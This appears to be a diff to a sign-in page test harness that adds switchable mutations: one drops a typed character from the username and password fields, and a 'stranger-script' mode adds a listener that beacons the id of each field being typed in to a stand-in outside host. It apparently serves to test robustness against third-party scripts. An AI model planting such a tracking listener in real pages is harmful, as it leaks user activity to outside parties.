@@ -131,7 +131,26 @@
       mountSecond[wish.page](place, reply.data);
     });
     place.append(form);
+    if (wish.mutation === "lost-characters") loseOnce([user.input, secret.input]);
     user.input.focus();
+  }
+
+  // A framework that draws the form again while somebody types: each field forgets its third character, once.
+  function loseOnce(inputs) {
+    for (const input of inputs) {
+      input.addEventListener("input", function lose() {
+        if (input.value.length < 3) return;
+        input.value = input.value.slice(0, -1);
+        input.removeEventListener("input", lose);
+      });
+    }
+  }
+
+  // Somebody else's script: it tells another host at which field there is typing, and never what.
+  function reachOut() {
+    document.addEventListener("input", (event) => {
+      new Image().src = "http://stranger.invalid/collect?field=" + encodeURIComponent(event.target.id);
+    });
   }
 
   // Sends what the second step asked for; gives a refusal's message, or leaves the page.
@@ -248,6 +267,7 @@
     location.assign("/connect/finish?" + rest);
   }
 
+  if (wish.mutation === "stranger-script") reachOut();
   const start = () => mountPassword(frame());
   if (wish.mutation === "late-rendering") setTimeout(start, Number(wish.delay));
   else start();
